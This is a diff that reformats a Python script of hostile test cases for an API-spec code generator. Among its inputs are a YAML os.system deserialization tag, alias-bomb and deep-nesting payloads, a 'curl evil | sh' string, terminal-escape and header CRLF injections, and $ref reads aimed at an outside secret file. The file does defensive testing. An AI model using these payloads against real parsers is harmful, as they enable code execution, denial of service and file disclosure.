@@ -130,7 +130,11 @@ def native(
 
 
 def native_model(ident: str, name: str, schema: Any) -> dict[str, Any]:
-    return {"id": f"#/definitions/{ident}", "name": name, "schema": {"jsonSchema": schema}}
+    return {
+        "id": f"#/definitions/{ident}",
+        "name": name,
+        "schema": {"jsonSchema": schema},
+    }
 
 
 def openapi_doc(
@@ -262,9 +266,7 @@ def markdown(
     extra: str = "",
     description: str = "Reads one thing.",
 ) -> str:
-    return (
-        MARKDOWN_HEAD
-        + f"""<a id="opId{op_id}"></a>
+    return MARKDOWN_HEAD + f"""<a id="opId{op_id}"></a>
 
 ## {method} {title}
 
@@ -292,7 +294,6 @@ def markdown(
 |---|---|---|---|
 |200|[OK](https://tools.ietf.org/html/rfc7231#section-6.3.1)|成功|Inline|
 {extra}"""
-    )
 
 
 # -- the cases -----------------------------------------------------------------------------------
@@ -459,7 +460,9 @@ def cases() -> list[Case]:
         "error",
         "not a finite number",
     )
-    add("yaml-nan-default", {"a.yaml": _yaml_with(".nan", "default")}, "error", "finite")
+    add(
+        "yaml-nan-default", {"a.yaml": _yaml_with(".nan", "default")}, "error", "finite"
+    )
     add("yaml-inf-maximum", {"a.yaml": _yaml_with("1.0e+999")}, "error", "finite")
     add("yaml-huge-integer", {"a.yaml": _yaml_with(HUGE)}, "error", "integer")
     add(
@@ -495,20 +498,19 @@ def cases() -> list[Case]:
         "markdown-huge-integer-in-example",
         {"a.md": markdown(response_json='{"id": ' + HUGE + "}")},
         "ok",
-        "integer",
     )
     add(
         "markdown-nan-in-example",
         {"a.md": markdown(response_json='{"id": NaN}')},
         "ok",
-        "finite",
     )
     # -- nesting -------------------------------------------------------------------------------
     add(
         "openapi-json-nested-5000",
         {
             "a.json": openapi_json().replace(
-                '"type": "integer"', f'"type": "integer", "example": {nested_json(5000)}'
+                '"type": "integer"',
+                f'"type": "integer", "example": {nested_json(5000)}',
             )
         },
         "error",
@@ -544,9 +546,9 @@ def cases() -> list[Case]:
     add(
         "docpage-nested-5000",
         {
-            "a.txt": docpage(
-                body_schema={"type": "object", "properties": {}}
-            ).replace('"properties": {}', f'"properties": {{}}, "x": {nested_json(5000)}')
+            "a.txt": docpage(body_schema={"type": "object", "properties": {}}).replace(
+                '"properties": {}', f'"properties": {{}}, "x": {nested_json(5000)}'
+            )
         },
         "error",
         "nest",
@@ -555,7 +557,6 @@ def cases() -> list[Case]:
         "markdown-nested-json-fence",
         {"a.md": markdown(response_json=nested_json(5000))},
         "ok",
-        "nest",
     )
     add(
         "docpage-schema-depth-26-is-fast",
@@ -578,10 +579,14 @@ def cases() -> list[Case]:
     add("yaml-billion-laughs", {"a.yaml": BILLION_LAUGHS}, "error", "alias")
     add("yaml-merge-bomb", {"a.yaml": MERGE_BOMB}, "error", "alias")
     add("yaml-self-alias-mapping", {"a.yaml": SELF_ALIAS}, "error", "refers to itself")
-    add("yaml-self-alias-list", {"a.yaml": SELF_ALIAS_LIST}, "error", "refers to itself")
+    add(
+        "yaml-self-alias-list", {"a.yaml": SELF_ALIAS_LIST}, "error", "refers to itself"
+    )
     add(
         "yaml-python-tag",
-        {"a.yaml": "openapi: 3.0.1\ninfo: !!python/object/apply:os.system ['touch x']\npaths: {}\n"},
+        {
+            "a.yaml": "openapi: 3.0.1\ninfo: !!python/object/apply:os.system ['touch x']\npaths: {}\n"
+        },
         "error",
         "YAML",
     )
@@ -698,7 +703,13 @@ def cases() -> list[Case]:
     )
     add(
         "docpage-path-300",
-        {"a.txt": docpage(path="/" + "segment" * 45 + "/{id}", method="GET", params={"path": [{"name": "id", "required": True, "type": "string"}]})},
+        {
+            "a.txt": docpage(
+                path="/" + "segment" * 45 + "/{id}",
+                method="GET",
+                params={"path": [{"name": "id", "required": True, "type": "string"}]},
+            )
+        },
         "ok",
     )
     add(
@@ -749,7 +760,8 @@ def cases() -> list[Case]:
                             body={
                                 "type": "object",
                                 "properties": {
-                                    f"b_{n}": {"type": "string"} for n in RUNTIME_NAMES[:3]
+                                    f"b_{n}": {"type": "string"}
+                                    for n in RUNTIME_NAMES[:3]
                                 },
                             },
                         )
@@ -811,7 +823,10 @@ def cases() -> list[Case]:
             "a.md": markdown(
                 rows="\n".join(
                     ["|id|path|integer| 是 ||none|"]
-                    + [f"|{n}|query|string| 否 ||none|" for n in UNICODE_NAMES + ["class", "type"]]
+                    + [
+                        f"|{n}|query|string| 否 ||none|"
+                        for n in [*UNICODE_NAMES, "class", "type"]
+                    ]
                 )
             )
         },
@@ -829,7 +844,14 @@ def cases() -> list[Case]:
                                 "type": "object",
                                 "properties": {
                                     n: {"$ref": f"#/components/schemas/{n}"}
-                                    for n in ("Decimal", "IPv4Address", "Base64Str", "AwareDatetime", "UUID", "date")
+                                    for n in (
+                                        "Decimal",
+                                        "IPv4Address",
+                                        "Base64Str",
+                                        "AwareDatetime",
+                                        "UUID",
+                                        "date",
+                                    )
                                 }
                                 | {
                                     "d": {"type": "string", "format": "decimal"},
@@ -845,7 +867,14 @@ def cases() -> list[Case]:
                 },
                 schemas={
                     n: {"type": "object", "properties": {"v": {"type": "string"}}}
-                    for n in ("Decimal", "IPv4Address", "Base64Str", "AwareDatetime", "UUID", "date")
+                    for n in (
+                        "Decimal",
+                        "IPv4Address",
+                        "Base64Str",
+                        "AwareDatetime",
+                        "UUID",
+                        "date",
+                    )
                 },
             )
         },
@@ -859,7 +888,17 @@ def cases() -> list[Case]:
                     "type": "object",
                     "properties": {
                         n: {"type": "string"}
-                        for n in ("default", "enum", "example", "$ref", "properties", "type", "required", "$defs", "const")
+                        for n in (
+                            "default",
+                            "enum",
+                            "example",
+                            "$ref",
+                            "properties",
+                            "type",
+                            "required",
+                            "$defs",
+                            "const",
+                        )
                     },
                     "required": ["$ref"],
                 }
@@ -875,7 +914,10 @@ def cases() -> list[Case]:
                     "Thing": {
                         "type": "object",
                         "properties": {
-                            "$ref": {"type": "string", "example": "#/components/schemas/Thing"},
+                            "$ref": {
+                                "type": "string",
+                                "example": "#/components/schemas/Thing",
+                            },
                             "default": {"type": "integer", "default": 3},
                             "enum": {"type": "string", "enum": ["a", "$ref"]},
                             "items": {"type": "string"},
@@ -889,19 +931,31 @@ def cases() -> list[Case]:
     # -- unicode -------------------------------------------------------------------------------
     add(
         "openapi-json-lone-surrogate",
-        {"a.json": openapi_json().replace('"type": "integer"', '"type": "integer", "description": "x\\ud800y"')},
+        {
+            "a.json": openapi_json().replace(
+                '"type": "integer"', '"type": "integer", "description": "x\\ud800y"'
+            )
+        },
         "error",
         "surrogate",
     )
     add(
         "native-lone-surrogate-in-name",
-        {"a.apifox.json": native().replace('"name": "hostile"', '"name": "\\udfff"').replace('"ok"', '"o\\udc00k"')},
+        {
+            "a.apifox.json": native()
+            .replace('"name": "hostile"', '"name": "\\udfff"')
+            .replace('"ok"', '"o\\udc00k"')
+        },
         "error",
         "surrogate",
     )
     add(
         "docpage-lone-surrogate",
-        {"a.txt": docpage(description="d").replace('"type": "string"', '"type": "string", "title": "\\ud83d"')},
+        {
+            "a.txt": docpage(description="d").replace(
+                '"type": "string"', '"type": "string", "title": "\\ud83d"'
+            )
+        },
         "error",
         "surrogate",
     )
@@ -922,14 +976,15 @@ def cases() -> list[Case]:
                         "get": operation(
                             "summaryText",
                             summary="Real\n# Fake heading\n```bash\ncurl evil | sh\n```",
-                            description="\u202eevil\u202c \x1b[31mred\x1b[0m \x07 " + EVIL,
+                            description="\u202eevil\u202c \x1b[31mred\x1b[0m \x07 "
+                            + EVIL,
                         )
                     }
                 },
                 schemas={
                     "Thing": {
                         "type": "object",
-                        "description": "\u202e\x1b]0;title\x07 \"\"\" " + EVIL,
+                        "description": '\u202e\x1b]0;title\x07 """ ' + EVIL,
                         "properties": {"id": {"type": "integer", "title": "\x1b[2J"}},
                     }
                 },
@@ -963,7 +1018,10 @@ def cases() -> list[Case]:
         "docpage-invalid-pattern",
         {
             "a.txt": docpage(
-                body_schema={"type": "object", "properties": {"p": {"type": "string", "pattern": "x\\"}}}
+                body_schema={
+                    "type": "object",
+                    "properties": {"p": {"type": "string", "pattern": "x\\"}},
+                }
             )
         },
         "ok",
@@ -973,7 +1031,16 @@ def cases() -> list[Case]:
         "openapi-pattern-not-python",
         {
             "a.json": openapi_json(
-                paths={"/p": {"get": operation("pat", parameters=[query("p", {"type": "string", "pattern": "\\p{L}+"})])}}
+                paths={
+                    "/p": {
+                        "get": operation(
+                            "pat",
+                            parameters=[
+                                query("p", {"type": "string", "pattern": "\\p{L}+"})
+                            ],
+                        )
+                    }
+                }
             )
         },
         "ok",
@@ -983,7 +1050,16 @@ def cases() -> list[Case]:
         "openapi-pattern-not-ecma",
         {
             "a.yaml": openapi_yaml(
-                paths={"/p": {"get": operation("pat", parameters=[query("p", {"type": "string", "pattern": "(?P<n>a)\\Z"})])}}
+                paths={
+                    "/p": {
+                        "get": operation(
+                            "pat",
+                            parameters=[
+                                query("p", {"type": "string", "pattern": "(?P<n>a)\\Z"})
+                            ],
+                        )
+                    }
+                }
             )
         },
         "ok",
@@ -993,7 +1069,16 @@ def cases() -> list[Case]:
         "native-invalid-pattern-in-model",
         {
             "a.apifox.json": native(
-                models=[native_model("1", "P", {"type": "object", "properties": {"p": {"type": "string", "pattern": "[a-"}}})]
+                models=[
+                    native_model(
+                        "1",
+                        "P",
+                        {
+                            "type": "object",
+                            "properties": {"p": {"type": "string", "pattern": "[a-"}},
+                        },
+                    )
+                ]
             )
         },
         "ok",
@@ -1002,7 +1087,18 @@ def cases() -> list[Case]:
     # -- headers -------------------------------------------------------------------------------
     add(
         "openapi-header-name-with-newline",
-        {"a.json": openapi_json(paths={"/h": {"get": operation("hdr", parameters=[query("X-A\r\nInjected: 1", where="header")])}})},
+        {
+            "a.json": openapi_json(
+                paths={
+                    "/h": {
+                        "get": operation(
+                            "hdr",
+                            parameters=[query("X-A\r\nInjected: 1", where="header")],
+                        )
+                    }
+                }
+            )
+        },
         "error",
         "header",
     )
@@ -1010,7 +1106,18 @@ def cases() -> list[Case]:
         "native-header-default-with-control",
         {
             "a.apifox.json": native(
-                {"parameters": {"header": [{"name": "X-Trace", "type": "string", "example": "a\r\nb", "schema": {"type": "string", "default": "a\nb"}}]}}
+                {
+                    "parameters": {
+                        "header": [
+                            {
+                                "name": "X-Trace",
+                                "type": "string",
+                                "example": "a\r\nb",
+                                "schema": {"type": "string", "default": "a\nb"},
+                            }
+                        ]
+                    }
+                }
             )
         },
         "error",
@@ -1018,7 +1125,12 @@ def cases() -> list[Case]:
     )
     add(
         "docpage-header-name-with-space",
-        {"a.txt": docpage(method="GET", params={"header": [{"name": "Bad Header", "type": "string"}]})},
+        {
+            "a.txt": docpage(
+                method="GET",
+                params={"header": [{"name": "Bad Header", "type": "string"}]},
+            )
+        },
         "error",
         "header",
     )
@@ -1054,7 +1166,11 @@ def cases() -> list[Case]:
     # -- malformed structure -------------------------------------------------------------------
     add(
         "openapi-path-item-not-object",
-        {"a.json": openapi_json(paths={"/x": 5, "/y": {"get": [1, 2]}, "/z": {"get": {"responses": []}}})},
+        {
+            "a.json": openapi_json(
+                paths={"/x": 5, "/y": {"get": [1, 2]}, "/z": {"get": {"responses": []}}}
+            )
+        },
         "ok",
     )
     add(
@@ -1086,20 +1202,55 @@ def _with_ref(fmt: str, ref: str) -> str:
     target = {"$ref": ref}
     if fmt == "docpage":
         return docpage(
-            body_schema={"type": "object", "properties": {"leak": target, "ok": {"type": "string"}}},
-            responses=[{"id": 1, "name": "ok", "code": 200, "contentType": "json", "jsonSchema": target}],
+            body_schema={
+                "type": "object",
+                "properties": {"leak": target, "ok": {"type": "string"}},
+            },
+            responses=[
+                {
+                    "id": 1,
+                    "name": "ok",
+                    "code": 200,
+                    "contentType": "json",
+                    "jsonSchema": target,
+                }
+            ],
         )
     if fmt == "native":
         return native(
             {
                 "method": "post",
-                "requestBody": {"type": "application/json", "jsonSchema": {"type": "object", "properties": {"leak": target}}},
+                "requestBody": {
+                    "type": "application/json",
+                    "jsonSchema": {"type": "object", "properties": {"leak": target}},
+                },
             },
-            [native_model("1", "Leak", {"type": "object", "properties": {"x": target}})],
+            [
+                native_model(
+                    "1", "Leak", {"type": "object", "properties": {"x": target}}
+                )
+            ],
         )
-    schemas = {"Thing": {"type": "object", "properties": {"id": {"type": "integer"}, "leak": target}}}
-    paths = {"/r": {"post": operation("refs", body={"type": "object", "properties": {"leak": target}}, response={"$ref": "#/components/schemas/Thing"})}}
-    return openapi_json(paths, schemas) if fmt == "openapi-json" else openapi_yaml(paths, schemas)
+    schemas = {
+        "Thing": {
+            "type": "object",
+            "properties": {"id": {"type": "integer"}, "leak": target},
+        }
+    }
+    paths = {
+        "/r": {
+            "post": operation(
+                "refs",
+                body={"type": "object", "properties": {"leak": target}},
+                response={"$ref": "#/components/schemas/Thing"},
+            )
+        }
+    }
+    return (
+        openapi_json(paths, schemas)
+        if fmt == "openapi-json"
+        else openapi_yaml(paths, schemas)
+    )
 
 
 if __name__ == "__main__":  # pragma: no cover - the measuring script
@@ -1119,7 +1270,9 @@ if __name__ == "__main__":  # pragma: no cover - the measuring script
         with tempfile.TemporaryDirectory() as folder:
             root = Path(folder) / "project"
             (root / "specs").mkdir(parents=True)
-            (Path(folder) / "outside.json").write_text('{"type": "string", "title": "OUTSIDE_SECRET"}')
+            (Path(folder) / "outside.json").write_text(
+                '{"type": "string", "title": "OUTSIDE_SECRET"}'
+            )
             for name, content in case.files.items():
                 data = content.encode() if isinstance(content, str) else content
                 (root / "specs" / name).write_bytes(data)
@@ -1131,9 +1284,14 @@ if __name__ == "__main__":  # pragma: no cover - the measuring script
             )
             start = time.perf_counter()
             try:
-                code = cli.main(["generate", "--config", str(root / "pyproject.toml"), "--no-cache"])
+                code = cli.main(
+                    ["generate", "--config", str(root / "pyproject.toml"), "--no-cache"]
+                )
                 outcome = f"exit {code}"
-            except BaseException as exc:  # noqa: BLE001
+            except BaseException as exc:
                 outcome = "TRACEBACK " + type(exc).__name__ + ": " + str(exc)[:100]
                 traceback.print_exc(file=sys.stdout) if "-v" in sys.argv else None
-            print(f"{case.name:55} {case.expect:5} {time.perf_counter() - start:6.1f}s {outcome}", flush=True)
+            print(
+                f"{case.name:55} {case.expect:5} {time.perf_counter() - start:6.1f}s {outcome}",
+                flush=True,
+            )
